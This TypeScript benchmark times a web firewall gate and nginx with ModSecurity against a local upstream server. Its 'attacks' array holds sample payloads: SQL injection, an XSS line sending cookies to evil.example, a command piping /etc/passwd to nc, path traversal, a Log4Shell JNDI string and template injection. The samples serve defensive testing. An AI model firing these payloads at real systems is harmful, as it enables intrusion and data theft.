/**
 * Requests per second through the gate with the firewall off and blocking, and through nginx + ModSecurity + the Core Rule Set at level 1 as
 * Debian packages them, in one run and in turns; and how long a request takes when the traffic is attacks, beside honest traffic.
 * `node bench/firewall.ts [rounds] [seconds]`. Load generator, gates and upstream share this machine: read the ratios.
 */
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { Agent, createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { startPeer } from './accuracy/peer.ts';
import { requestHeaders } from './proxy/request.ts';
import { workflowOf } from './waf/samples.ts';

const rounds = Number(process.argv[2] ?? 3);
const seconds = Number(process.argv[3] ?? 2);
const connections = 16;
const agent = new Agent({ keepAlive: true, maxSockets: connections });

interface Kind {
  readonly name: string;
  readonly method: string;
  readonly path: (at: number) => string;
  readonly body?: Buffer;
}

interface Target {
  readonly name: string;
  readonly port: number;
}

const save = (bytes: number) => Buffer.from(JSON.stringify(workflowOf(bytes)));
const kinds: readonly Kind[] = [
  { name: 'small GET', method: 'GET', path: at => `/rest/workflows?at=${at}` },
  { name: '2 KB save', method: 'PATCH', path: () => '/rest/workflows/aB3dE5gH7jK9mN1p', body: save(2048) },
  { name: '64 KB save', method: 'PATCH', path: () => '/rest/workflows/aB3dE5gH7jK9mN1p', body: save(65_536) },
];
const attacks = [
  "1' UNION SELECT username, password FROM users--",
  '<svg/onload=fetch("//evil.example/"+document.cookie)>',
  '; cat /etc/passwd | nc evil.example 4444',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  "{{constructor.constructor('return process')().exit()}}",
];

async function startGate(mode: string, origin: string): Promise<Target & { stop: () => void }> {
  const file = path.join(import.meta.dirname, 'proxy/servers.ts');
  const child = spawn(process.execPath, [file, `gate:${mode}`, origin], { stdio: ['ignore', 'pipe', 'inherit'] });
  const port = await new Promise<number>(resolve => child.stdout.once('data', text => resolve(Number(text))));
  return { name: `firewall ${mode}`, port, stop: () => child.kill('SIGTERM') };
}

function send(target: Target, kind: Kind, at: number): Promise<number> {
  const { body } = kind;
  const headers = { ...requestHeaders(body?.length ?? 0), ...(body ? { 'content-length': body.length } : {}) };
  return new Promise((resolve, reject) => {
    const options = { host: '127.0.0.1', port: target.port, method: kind.method, path: kind.path(at), headers, agent };
    const req = request(options, res => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Requests per second, and the 99th percentile of the time one takes in milliseconds. */
async function run(target: Target, kind: Kind): Promise<{ rate: number; p99Ms: number; statuses: string }> {
  const tookMs: number[] = [];
  const statuses = new Set<number>();
  const startedMs = performance.now();
  const endMs = startedMs + seconds * 1000;
  let at = 0;
  const work = async (): Promise<void> => {
    while (performance.now() < endMs) {
      const sentMs = performance.now();
      statuses.add(await send(target, kind, at++));
      tookMs.push(performance.now() - sentMs);
    }
  };
  await Promise.all(Array.from({ length: connections }, work));
  const rate = (1000 * tookMs.length) / (performance.now() - startedMs);
  const sorted = tookMs.toSorted((a, b) => a - b);
  return { rate, p99Ms: sorted[Math.floor(sorted.length * 0.99)] ?? 0, statuses: [...statuses].join() };
}

const median = (values: readonly number[]): number =>
  values.toSorted((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0;

const upstream = createServer((req, res) => {
  req.resume();
  req.on('end', () => res.end('{}'));
});
await new Promise<void>(resolve => upstream.listen(0, '127.0.0.1', resolve));
const origin = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
await using stack = new AsyncDisposableStack();
stack.defer(() => void upstream.close());
stack.defer(() => agent.destroy());
const off = await startGate('off', origin);
stack.defer(off.stop);
const block = await startGate('block', origin);
stack.defer(block.stop);
const targets: Target[] = [off, block];
if (existsSync('/usr/sbin/nginx') && existsSync('/usr/share/modsecurity-crs/rules')) {
  const peer = stack.use(await startPeer(1));
  targets.push({ name: 'nginx + ModSecurity + CRS', port: peer.port });
} else console.log('nginx with ModSecurity and the Core Rule Set is not installed: measured without them.\n');

console.log(`| request | ${targets.map(target => `${target.name} req/s`).join(' | ')} | block ÷ off | block ÷ peer |`);
console.log(`|---|${targets.map(() => '--:').join('|')}|--:|--:|`);
for (const kind of kinds) {
  const rates = targets.map((): number[] => []);
  for (let round = 0; round <= rounds; round++) {
    for (const [at, target] of targets.entries()) {
      const { rate } = await run(target, kind);
      // The first round warms.
      if (round > 0) rates[at]?.push(rate);
    }
  }
  const [a = 0, b = 0, c] = rates.map(median);
  const cells = [a, b, ...(c === undefined ? [] : [c])].map(rate => rate.toFixed(rate < 100 ? 1 : 0));
  const ratio = c === undefined ? '' : (b / c).toFixed(1);
  console.log(`| ${kind.name} | ${cells.join(' | ')} | ${(b / a).toFixed(2)} | ${ratio} |`);
}

const honest: Kind = {
  name: 'honest',
  method: 'GET',
  path: at => `/rest/workflows?q=${encodeURIComponent(`orders of ${at}`)}`,
};
const hostile: Kind = {
  name: 'hostile',
  method: 'GET',
  path: at => `/rest/workflows?q=${encodeURIComponent(`${attacks[at % attacks.length] ?? ''} ${at}`)}`,
};
const p99s: Record<string, number[]> = { honest: [], hostile: [] };
let statuses = '';
for (let round = 0; round <= rounds; round++) {
  for (const kind of [honest, hostile]) {
    const found = await run(block, kind);
    if (round > 0) p99s[kind.name]?.push(found.p99Ms);
    if (kind === hostile) statuses = found.statuses;
  }
}
const [honestMs, hostileMs] = [median(p99s['honest'] ?? []), median(p99s['hostile'] ?? [])];
console.log(
  `\np99 with ${connections} connections: honest ${honestMs.toFixed(1)} ms, attacks ${hostileMs.toFixed(1)} ms (answered ${statuses}), ratio ${(hostileMs / honestMs).toFixed(2)}`,
);
